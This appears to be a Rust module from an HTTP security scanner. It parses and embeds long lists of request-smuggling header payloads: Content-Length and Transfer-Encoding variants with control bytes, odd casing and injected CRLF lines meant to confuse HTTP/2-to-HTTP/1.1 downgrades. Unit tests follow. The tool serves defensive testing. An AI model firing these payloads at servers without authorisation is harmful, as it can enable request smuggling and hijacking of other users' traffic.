// File: scanners/gadgets.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

use crate::utils;
use once_cell::sync::Lazy;
use std::io;

/// One smuggling gadget: a header designed to survive an HTTP/2 to HTTP/1.1
/// downgrade with framing semantics the back-end parses differently. `name`
/// keeps the original list line for human-readable reporting; name and value
/// may contain raw control bytes after escape decoding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Gadget {
    pub header_name: String,
    pub header_value: String,
    pub name: String,
}

/// Parses one gadget line: `name; value` split on the first `"; "`, with
/// literal `\r`, `\n`, `\t` decoded into control bytes on both sides. Lines
/// without the separator are skipped.
pub fn parse_line(line: &str) -> Option<Gadget> {
    let line = line.trim();
    if line.is_empty() {
        return None;
    }

    let (name_part, value_part) = line.split_once("; ")?;

    Some(Gadget {
        header_name: decode_escapes(name_part),
        header_value: decode_escapes(value_part),
        name: line.to_string(),
    })
}

fn decode_escapes(s: &str) -> String {
    s.replace("\\r", "\r").replace("\\n", "\n").replace("\\t", "\t")
}

static DEFAULT_GADGETS: Lazy<Vec<Gadget>> =
    Lazy::new(|| DEFAULT_GADGET_LIST.lines().filter_map(parse_line).collect());

static EXTENDED_GADGETS: Lazy<Vec<Gadget>> = Lazy::new(|| {
    let mut gadgets = DEFAULT_GADGETS.clone();
    gadgets.extend(EXTENDED_GADGET_EXTRA.lines().filter_map(parse_line));
    gadgets
});

/// Loads gadgets from the embedded lists or, when given, a wordlist file
/// that replaces both.
pub fn load(extended: bool, wordlist: Option<&str>) -> io::Result<Vec<Gadget>> {
    if let Some(path) = wordlist {
        let lines = utils::read_lines(path)?;
        return Ok(lines.iter().filter_map(|l| parse_line(l)).collect());
    }

    if extended {
        Ok(EXTENDED_GADGETS.clone())
    } else {
        Ok(DEFAULT_GADGETS.clone())
    }
}

/// Common downgrade gadgets: Content-Length and Transfer-Encoding variants
/// with case tricks, percent sequences, control-byte padding, and embedded
/// CRLF continuations.
pub const DEFAULT_GADGET_LIST: &str = r#"validheader; smugglefuzz
CONTENT-LENGTH; 13
content-lengt%68; 13
content-length; %313
transfer-encoding; chunke%64
transfer-encoding; chunked, chunked
TRANSFER-ENCODING; CHUNKED
transfer-encoding; chunked,identity
transfer-encoding; chunked,chunked
transfer-encoding: gzip, chunked
transfer-encoding: gzip,chunked
transfer-encoding: chunked, gzip
content-length; 13
content-length; %20%20%20%2013
content-length; 13%20%20%20%20
transfer-encoding; chunked
transfer-encoding; ,chunked
transfer-encoding; gzip, chunked
transfer-encoding; \tchunked
transfer-encoding\t; chunked
\ttransfer-encoding; chunked
transfer-encoding; chunked\t
transfer-encoding; chunked\r
transfer-%00encoding; chunked
transfer-%01encoding; chunked
transfer-%13encoding; chunked
content-length; 13\r
content-length; 015
content-length; 013
content-length; 13_0
content-%00length; 13
content-%01length; 13
content-%13length; 13
content-length; 13\r
transfer_encoding; chunked
content_length; 13
contentlength; 13
transferencoding; chunked
Content-Length; 13
content-length; "13"
content-length; '13'
content-length; +13
content-length; -13
Transfer-Encoding; chunked
Transfer-Encoding; chunked, identity
Transfer-Encoding; chunked,
Transfer-Encoding; , chunked
Transfer-Encoding; identity, chunked
Transfer-Encoding; Chunked
transfer-encoding; chunked
transfer-encoding; chunked, identity
transfer-encoding; chunked,
transfer-encoding; , chunked
transfer-encoding; ,chunked
transfer-encoding; chunked,
transfer-encoding; identity, chunked
transfer-encoding; Chunked
Transfer-Encoding; chunked\r\nxxx: yyy
Transfer-Encoding; chunked\nxxx: yyy
transfer-encoding; chunked\r\nxxx: yyy
content-length; 13\r\nxxx: yyy
content-length; 13\nxxx: yyy
transfer-encoding; "chunked"
transfer-encoding; 'chunked'
transfer-encoding; chunk
xxxx: yyy\r\ncontent-length; 13
xxxx: yyy\ncontent-length; 13
xxxx; yyy\r\ncontent-length: 13
xxxx; yyy\r\ntransfer-encoding: chunked
xxxx; yyy\ntransfer-encoding: chunked
transfer; encoding: chunked
xxxx; transfer-encoding: chunked
content-length%01; 13
%01content-length; 13
content-length; %0113
content-length; 13%01
%01transfer-encoding; chunked
transfer-encoding%01; chunked
transfer-encoding; chunked%01
transfer-encoding; %01chunked
content-length%00; 13
%00content-length; 13
content-length; %0013
content-length; 13%00
%00transfer-encoding; chunked
transfer-encoding%00; chunked
transfer-encoding; chunked%00
transfer-encoding; %00chunked"#;

/// Extra control-byte sweep appended by `--extended`: the same four name and
/// four value positions probed with a wider byte palette.
pub const EXTENDED_GADGET_EXTRA: &str = r#"content-length%04; 13
%04content-length; 13
content-length; %0413
content-length; 13%04
%04transfer-encoding; chunked
transfer-encoding%04; chunked
transfer-encoding; chunked%04
transfer-encoding; %04chunked
content-length%08; 13
%08content-length; 13
content-length; %0813
content-length; 13%08
%08transfer-encoding; chunked
transfer-encoding%08; chunked
transfer-encoding; chunked%08
transfer-encoding; %08chunked
content-length%0A; 13
%0Acontent-length; 13
content-length; %0A13
content-length; 13%0A
%0Atransfer-encoding; chunked
transfer-encoding%0A; chunked
transfer-encoding; chunked%0A
transfer-encoding; %0Achunked
content-length%0B; 13
%0Bcontent-length; 13
content-length; %0B13
content-length; 13%0B
%0Btransfer-encoding; chunked
transfer-encoding%0B; chunked
transfer-encoding; chunked%0B
transfer-encoding; %0Bchunked
content-length%0C; 13
%0Ccontent-length; 13
content-length; %0C13
content-length; 13%0C
%0Ctransfer-encoding; chunked
transfer-encoding%0C; chunked
transfer-encoding; chunked%0C
transfer-encoding; %0Cchunked
content-length%0D; 13
%0Dcontent-length; 13
content-length; %0D13
content-length; 13%0D
%0Dtransfer-encoding; chunked
transfer-encoding%0D; chunked
transfer-encoding; chunked%0D
transfer-encoding; %0Dchunked
content-length%1F; 13
%1Fcontent-length; 13
content-length; %1F13
content-length; 13%1F
%1Ftransfer-encoding; chunked
transfer-encoding%1F; chunked
transfer-encoding; chunked%1F
transfer-encoding; %1Fchunked
content-length%20; 13
%20content-length; 13
content-length; %2013
content-length; 13%20
%20transfer-encoding; chunked
transfer-encoding%20; chunked
transfer-encoding; chunked%20
transfer-encoding; %20chunked
content-length%7F; 13
%7Fcontent-length; 13
content-length; %7F13
content-length; 13%7F
%7Ftransfer-encoding; chunked
transfer-encoding%7F; chunked
transfer-encoding; chunked%7F
transfer-encoding; %7Fchunked
content-length%A0; 13
%A0content-length; 13
content-length; %A013
content-length; 13%A0
%A0transfer-encoding; chunked
transfer-encoding%A0; chunked
transfer-encoding; chunked%A0
transfer-encoding; %A0chunked
content-length%FF; 13
%FFcontent-length; 13
content-length; %FF13
content-length; 13%FF
%FFtransfer-encoding; chunked
transfer-encoding%FF; chunked
transfer-encoding; chunked%FF
transfer-encoding; %FFchunked
content-length%9D; 13
%9Dcontent-length; 13
content-length; %9D13
content-length; 13%9D
%9Dtransfer-encoding; chunked
transfer-encoding%9D; chunked
transfer-encoding; chunked%9D
transfer-encoding; %9Dchunked
content-length%81; 13
%81content-length; 13
content-length; %8113
content-length; 13%81
%81transfer-encoding; chunked
transfer-encoding%81; chunked
transfer-encoding; chunked%81
transfer-encoding; %81chunked
content-length%5F; 13
%5Fcontent-length; 13
content-length; %5F13
content-length; 13%5F
%5Ftransfer-encoding; chunked
transfer-encoding%5F; chunked
transfer-encoding; chunked%5F
transfer-encoding; %5Fchunked
content-length%5C; 13
%5Ccontent-length; 13
content-length; %5C13
content-length; 13%5C
%5Ctransfer-encoding; chunked
transfer-encoding%5C; chunked
transfer-encoding; chunked%5C
transfer-encoding; %5Cchunked
content-length%90; 13
%90content-length; 13
content-length; %9013
content-length; 13%90
%90transfer-encoding; chunked
transfer-encoding%90; chunked
transfer-encoding; chunked%90
transfer-encoding; %90chunked
content-length%F9; 13
%F9content-length; 13
content-length; %F913
content-length; 13%F9
%F9transfer-encoding; chunked
transfer-encoding%F9; chunked
transfer-encoding; chunked%F9
transfer-encoding; %F9chunked"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_line_splits_on_first_separator() {
        let gadget = parse_line("content-length; 13").unwrap();
        assert_eq!(gadget.header_name, "content-length");
        assert_eq!(gadget.header_value, "13");
        assert_eq!(gadget.name, "content-length; 13");

        // Only the first "; " separates name from value.
        let gadget = parse_line("a; b; c").unwrap();
        assert_eq!(gadget.header_name, "a");
        assert_eq!(gadget.header_value, "b; c");
    }

    #[test]
    fn test_parse_line_decodes_escapes() {
        let gadget = parse_line(r"content-length; 13\r").unwrap();
        assert_eq!(gadget.header_value, "13\r");
        // The display name keeps the escaped form.
        assert_eq!(gadget.name, r"content-length; 13\r");

        let gadget = parse_line(r"transfer-encoding\t; chunked").unwrap();
        assert_eq!(gadget.header_name, "transfer-encoding\t");

        let gadget = parse_line(r"Transfer-Encoding; chunked\r\nxxx: yyy").unwrap();
        assert_eq!(gadget.header_value, "chunked\r\nxxx: yyy");
    }

    #[test]
    fn test_parse_line_skips_malformed() {
        assert!(parse_line("").is_none());
        assert!(parse_line("   ").is_none());
        // Colon-separated lines carry the whole gadget in the name side of a
        // later "; " or have none at all.
        assert!(parse_line("no-separator-here").is_none());
    }

    #[test]
    fn test_default_list_loads() {
        let gadgets = load(false, None).unwrap();
        assert!(gadgets.len() >= 80);
        assert!(gadgets.iter().any(|g| g.name == "CONTENT-LENGTH; 13"));
        // Lines using ": " instead of "; " carry no separator and are
        // dropped by the parser.
        assert!(gadgets
            .iter()
            .all(|g| g.name != "transfer-encoding: gzip, chunked"));
    }

    #[test]
    fn test_extended_list_is_superset() {
        let default = load(false, None).unwrap();
        let extended = load(true, None).unwrap();
        assert_eq!(extended.len(), default.len() + 136);
        assert!(extended
            .iter()
            .any(|g| g.name == "content-length%04; 13"));
    }

    #[test]
    fn test_wordlist_replaces_embedded_lists() {
        let path = std::env::temp_dir().join(format!(
            "httpsuite_gadget_test_{}.txt",
            std::process::id()
        ));
        std::fs::write(&path, "x-custom; 1\r\nbroken line\nx-other; 2\n").unwrap();
        let gadgets = load(true, path.to_str()).unwrap();
        assert_eq!(gadgets.len(), 2);
        assert_eq!(gadgets[0].header_name, "x-custom");
        assert_eq!(gadgets[1].header_value, "2");
        let _ = std::fs::remove_file(&path);
    }
}
